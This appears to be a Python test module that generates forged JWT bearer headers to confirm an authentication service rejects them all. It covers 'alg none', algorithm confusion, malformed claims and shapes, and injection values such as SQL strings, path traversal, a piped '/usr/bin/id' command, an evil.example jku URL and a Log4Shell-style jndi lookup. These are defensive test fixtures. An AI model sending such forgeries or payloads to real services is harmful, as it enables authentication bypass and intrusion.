"""Forged Authorization headers: none of them signs anybody in, and all are answered alike."""

import time
from collections.abc import Iterator
from uuid import UUID, uuid4

from tests.hostile.forging import (
    GONE,
    Case,
    Forger,
    bearer,
    claim,
    claims,
    dumped,
    encoded,
    header,
    header_of,
    many_parts,
    parts,
    payload_of,
    unsigned,
)

TOO_LONG_FOR_A_FRAME = 1009
NUMBERS: dict[str, object] = {
    "a string": "9999999999",
    "NaN": float("nan"),
    "Infinity": float("inf"),
    "-Infinity": float("-inf"),
    "huge": 10**30,
    "a huge float": 1e308,
    "far below zero": -(10**18),
    "a list": [9999999999],
    "an object": {"value": 9999999999},
    "null": None,
    "true": True,
}
SUBJECTS: dict[str, object] = {
    "nobody": uuid4().hex,
    "zero": UUID(int=0).hex,
    "not a UUID": "ada@alpha.example",
    "empty": "",
    "a list": [uuid4().hex],
    "a number": 1,
    "an object": {"$ne": None},
    "SQL": "' OR '1'='1",
    "with a NUL": "\0" + uuid4().hex,
    "full-width digits": "\uff11" * 32,
    "too short": uuid4().hex[1:],
    "a lone surrogate": "\ud800",
}
KEY_IDS: dict[str, object] = {
    "unknown": "0123456789abcdef",
    "a traversal": "../../../../dev/null",
    "SQL": "x' UNION SELECT 'key",
    "a command": "|/usr/bin/id",
    "very long": "k" * 400,
    "empty": "",
    "a list": ["k"],
    "an object": {"k": 1},
    "a number": 1,
    "null": None,
    "with a NUL": "\0",
    "a prototype": "__proto__",
}
PAYLOADS: dict[str, object] = {
    "an array": [1],
    "a string": "sub",
    "a number": 1,
    "null": None,
    "an empty object": {},
    "nothing": b"",
    "no JSON": b"sub=1",
    "no UTF-8": b"\xff\xfe",
    "deep": b"[" * 1200,
    "deep objects": b'{"a":' * 240 + b"1" + b"}" * 240,
}
_NAMES: list[object] = ["", "Lead2Patient", "evil", ["evil"], 1, None, {}]
NAMES: dict[str, object] = {repr(name): name for name in _NAMES}
_UUIDS = ("nobody", "zero", "full-width digits")  # to Python, digits of any script are digits
CLAIMS: dict[str, dict[str, object]] = {
    "exp": NUMBERS,
    "iat": NUMBERS,
    # Before its time nothing is; and a claim that is null is as absent.
    "nbf": {told: one for told, one in NUMBERS.items() if told not in ("far below zero", "null")},
    "sub": SUBJECTS,
    "jti": {told: one for told, one in SUBJECTS.items() if told not in _UUIDS},
    "iss": NAMES,
    "aud": NAMES,
}
ALGORITHMS: list[object] = ["none", "None", "NONE", "nOnE", "", None, GONE]
OTHER_DIGESTS = {"HS384": "sha384", "HS512": "sha512"}
OTHER_KINDS = ["RS256", "ES256", "PS256", "EdDSA", "hs256", "HS256\0", "dir", "A256KW"]


def _claim_cases() -> Iterator[Case]:
    for name in ("iss", "aud", "sub", "iat", "exp", "jti"):
        yield Case(f"without {name}", claim(name, GONE))
    for name, values in CLAIMS.items():
        for told, value in values.items():
            yield Case(f"{name} is {told}", claim(name, value))
    for told, payload in PAYLOADS.items():
        yield Case(f"the payload is {told}", payload_of(payload))


def _time_cases() -> Iterator[Case]:
    now = int(time.time())
    yield Case("expired beyond the leeway", claim("exp", now - 90))
    yield Case("expired at the beginning of time", claim("exp", 0))
    yield Case("expired before time", claim("exp", -1))
    yield Case("in milliseconds, long ago", claim("exp", 1e-9))
    yield Case("issued in the future", claim("iat", now + 3600))
    yield Case("not valid yet", claim("nbf", now + 3600))
    yield Case(
        "claims twice, the last one expired",
        claims(lambda by: dumped(by.claims())[:-1] + b',"exp":1}'),
    )


def _header_cases() -> Iterator[Case]:
    for alg in ALGORITHMS:
        told = "missing" if alg is GONE else repr(alg)
        yield Case(f"alg {told}, signed", header(alg=alg))
        yield Case(f"alg {told}, unsigned", unsigned(alg))
    for name, digest in OTHER_DIGESTS.items():
        yield Case(f"alg {name} with our key", header(digest=digest, alg=name))
    for name in OTHER_KINDS:
        yield Case(f"alg {name} with our key as if it were public", header(alg=name))
    yield Case("alg is a list", header(alg=["HS256"]))
    yield Case("alg is a number", header(alg=256))
    for told, kid in KEY_IDS.items():
        yield Case(f"kid is {told}, signed with nothing", header(b"", kid=kid))
        yield Case(f"kid is {told}, signed with itself", header(str(kid).encode(), kid=kid))
    yield Case("alg twice, none first", lambda by: _twice(by, b'{"alg":"none",', by.secret))
    yield Case("alg twice, none last", lambda by: _twice(by, b'{"alg":"HS256",', b"", b"none"))


def _twice(by: Forger, before: bytes, key: bytes, last: bytes = b"HS256") -> str:
    made = by.signed(before + b'"alg":"' + last + b'"}', by.claims(), key)
    return made.rpartition(".")[0] + "."


def _key_cases() -> Iterator[Case]:
    mine = b"a key that the forger made himself"
    yield Case("another key", header(mine))
    yield Case("another key, kid left out", header(mine, kid=GONE))
    yield Case("an empty key", header(b""))
    yield Case("the key id as the key", _signed_by_kid)
    jwk = {"kty": "oct", "k": encoded(mine), "kid": "mine", "alg": "HS256"}
    yield Case("jwk in the header", header(mine, jwk=jwk, kid="mine"))
    yield Case("jwk under our kid", header(mine, jwk=jwk))
    for name in ("jku", "x5u"):
        yield Case(f"{name} in the header", header(mine, **{name: "https://evil.example/keys"}))
    yield Case("x5c in the header", header(mine, x5c=["MIIB"]))
    yield Case("crit with what nobody knows", header(crit=["evil"], evil=True))
    yield Case("crit is a string", header(crit="exp"))
    yield Case("b64 is false", header(b64=False, crit=["b64"]))
    for told, raw in PAYLOADS.items():
        yield Case(f"the header is {told}", header_of(raw))


def _signed_by_kid(by: Forger) -> str:
    return by.signed(by.header(), by.claims(), str(by.header()["kid"]).encode())


def _shape_cases() -> Iterator[Case]:
    yield Case("the signature is empty", parts(lambda my, _: [my[0], my[1], ""]))
    yield Case("the signature is another's", parts(lambda my, other: [*my[:2], other[2]]))
    yield Case("the claims are another's", parts(lambda my, other: [my[0], other[1], my[2]]))
    yield Case("parts swapped", parts(lambda my, _: [my[1], my[0], my[2]]))
    yield Case("parts backwards", parts(lambda my, _: my[::-1]))
    yield Case("a bit of the signature changed", parts(lambda my, _: [*my[:2], _flipped(my[2])]))
    yield Case("a part of the claims changed", parts(lambda my, _: [my[0], my[1][:-4], my[2]]))
    for count in (1, 2, 4, 5, 40):
        yield Case(f"{count} parts", many_parts(count))
    yield Case("dots only", lambda _: "..")
    yield Case("five parts of an encrypted token", lambda _: "e30.AA.AA.AA.AA")
    yield Case("the token twice", lambda by: by.token + by.token)
    yield Case("a dot before", lambda by: "." + by.token)
    yield Case("a dot after", lambda by: by.token + ".")
    yield Case("the parts escaped", lambda by: by.token.replace(".", "%2E"))
    yield Case("full-width dots", lambda by: by.token.replace(".", "\uff0e"), over_http=False)
    yield Case("unicode", lambda _: "\u00e9\u00fc.\u00e9.\u00e9")
    yield Case("an embedded NUL", lambda by: by.token[:9] + "\0" + by.token[9:], over_http=False)
    yield Case("a line break", lambda by: by.token[:9] + "\r\n" + by.token[9:], over_http=False)
    yield Case("2 KiB of claims", claim("more", "x" * 2048))
    yield Case("60,000 characters", lambda _: "A" * 60_000)
    yield Case("dots of 60,000 characters", lambda _: "A." * 30_000)
    yield Case("100 KiB", lambda by: by.token + "A" * 102_400, close=TOO_LONG_FOR_A_FRAME)


def _flipped(text: str) -> str:
    return ("B" if text[0] == "A" else "A") + text[1:]


TOKENS = [*_claim_cases(), *_time_cases(), *_header_cases(), *_key_cases(), *_shape_cases()]

# The whole header, the word in front of the token too.
HEADERS = [
    Case("nothing", lambda _: ""),
    Case("the token alone", lambda by: by.token),
    Case("the word alone", lambda _: "Bearer"),
    Case("the word and a space", lambda _: "Bearer ", over_http=False),
    Case("the word and spaces", lambda _: "Bearer     ", over_http=False),
    Case("the word twice", lambda by: f"Bearer Bearer {by.token}"),
    Case("the word after the token", lambda by: f"{by.token} Bearer"),
    Case("no space", lambda by: f"Bearer{by.token}"),
    Case("a tab for the space", lambda by: f"Bearer\t{by.token}"),
    Case("a comma for the space", lambda by: f"Bearer,{by.token}"),
    Case("two tokens", lambda by: f"Bearer {by.token} {by.other}"),
    Case("two tokens and a comma", lambda by: f"Bearer {by.token}, Bearer {by.other}"),
    Case("in quotes", lambda by: f'Bearer "{by.token}"'),
    Case("as a parameter", lambda by: f"Bearer token={by.token}"),
    Case("Basic", lambda by: f"Basic {by.token}"),
    Case("Basic, as it should be", lambda _: "Basic " + encoded(b"ada:secret")),
    Case("Token", lambda by: f"Token {by.token}"),
    Case("Digest", lambda by: f'Digest username="ada", response="{by.token}"'),
    Case("null", lambda _: "null"),
    Case("Bearer null", lambda _: "Bearer null"),
    Case("Bearer undefined", lambda _: "Bearer undefined"),
    Case("format strings", lambda _: "Bearer %s%n{0}{{7*7}}${jndi:ldap://evil.example}"),
]

# These are good: the word in any case (RFC 9110, 11.1), more spaces, our key without its name.
GOOD = [
    Case("as it is", lambda by: f"Bearer {by.token}"),
    Case("lower case", lambda by: f"bearer {by.token}"),
    Case("upper case", lambda by: f"BEARER {by.token}"),
    Case("more spaces", lambda by: f"Bearer   {by.token}"),
    Case("signed anew", lambda by: "Bearer " + by.signed(by.header(), by.claims())),
    Case("kid left out", lambda by: "Bearer " + by.signed(by.header(kid=GONE), by.claims())),
    Case(
        "expired within the leeway",
        lambda by: "Bearer " + by.signed(by.header(), by.claims(exp=int(time.time()) - 20)),
    ),
]


def forged() -> list[Case]:
    """Return every forged header, whole."""
    return [*map(bearer, TOKENS), *HEADERS]
